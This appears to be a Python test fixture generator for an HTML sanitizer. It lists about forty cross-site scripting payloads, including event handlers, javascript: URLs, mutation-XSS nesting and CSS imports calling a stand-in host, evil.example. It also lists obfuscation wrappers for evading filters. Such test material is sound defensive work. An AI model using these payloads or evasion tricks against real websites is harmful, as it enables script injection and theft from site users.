"""Hostile texts without end: attacks, wrapped and disguised in every way we know, the same for the same seed.

A script that ran would set `window.hit`; a request that left would go to `evil.example`.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

HIT = "window.hit=1"
ELSEWHERE = "//evil.example/x"
ATTACKS = (
    f"<script>{HIT}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<img src=x onerror={HIT}>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset='{ELSEWHERE} 2x'>",
    f"<svg onload={HIT}>",
    f"<svg><image href={ELSEWHERE} /></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><animate attributeName=href values=javascript:{HIT} /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<video poster={ELSEWHERE}></video>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src={ELSEWHERE} autoplay></audio>",
    f"<input type=image src={ELSEWHERE}>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<body background={ELSEWHERE} onload={HIT}>",
    f"<table background={ELSEWHERE}><tr><td>x</table>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<link rel=preconnect href={ELSEWHERE}>",
    f"<style>@import url({ELSEWHERE});</style>",
    f"<style>body{{background:url({ELSEWHERE})}}</style>",
    f"<p style='background:url({ELSEWHERE})'>x</p>",
    f"<p style=animation:a onanimationstart={HIT}>x</p>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button formaction=javascript:{HIT} autofocus onfocus={HIT}>x",
    f"<a href=javascript:{HIT} autofocus onfocus={HIT}>x</a>",
    f"<a href=data:text/html,<script>{HIT}</script>>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    f"<xss tabindex=1 autofocus onfocus={HIT}></xss>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"{{{{ ''.__class__ }}}}<script>{HIT}</script>{{% raw %}}",
)


def _entities(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text))
    return f"{text[:at]}&#{ord(text[at])};{text[at + 1 :]}"


def _capitals(text: str, chance: random.Random) -> str:
    """Tags and attributes in any case; what the script would do keeps its own."""
    mixed = "".join(c.upper() if chance.random() < 0.4 else c for c in text)
    return mixed.replace(mixed[at : at + len(HIT)], HIT) if (at := mixed.lower().find(HIT)) >= 0 else mixed


def _spaced(text: str, chance: random.Random) -> str:
    return text.replace(" ", chance.choice(["\t", "\n", "/", "\x0c", "  "]), 1)


def _cut(text: str, chance: random.Random) -> str:
    return text[: -chance.randint(1, 6)]


DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    lambda text, chance: text,
    lambda text, chance: f'">{text}',
    lambda text, chance: f"'>{text}",
    lambda text, chance: f"</title></style></textarea></script>{text}",
    lambda text, chance: f"<!--{text}-->",
    lambda text, chance: f"<!--><{text}",
    lambda text, chance: f"<![CDATA[{text}]]>",
    lambda text, chance: f"<p><strong>{text}</strong></p>",
    lambda text, chance: f"<ul><li>{text}<li></ul>",
    lambda text, chance: f"<p title=\"{text}\">x</p>",
    lambda text, chance: text.replace("<", "<<", 1),
    lambda text, chance: text.replace("<", "<\x00", 1),
    lambda text, chance: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text, chance: text.replace("<", "\uff1c"),
    lambda text, chance: f"<div><svg><desc>{text}",
    lambda text, chance: f"<select><option>{text}",
    lambda text, chance: f"\u2028{text}\u202e",
    _entities,
    _capitals,
    _spaced,
    _cut,
)  # fmt: skip


def hostile_texts(count: int, seed: int = 1) -> list[str]:
    """So many different ones: every attack bare first, then disguised once, twice, three times."""
    return [text for _, text in zip(range(count), _endless(random.Random(seed)), strict=False)]


def _endless(chance: random.Random) -> Iterator[str]:
    seen = set(ATTACKS)
    yield from ATTACKS
    while True:
        text = chance.choice(ATTACKS)
        for _ in range(chance.randint(1, 3)):
            text = chance.choice(DISGUISES)(text, chance)
        if text not in seen:
            seen.add(text)
            yield text
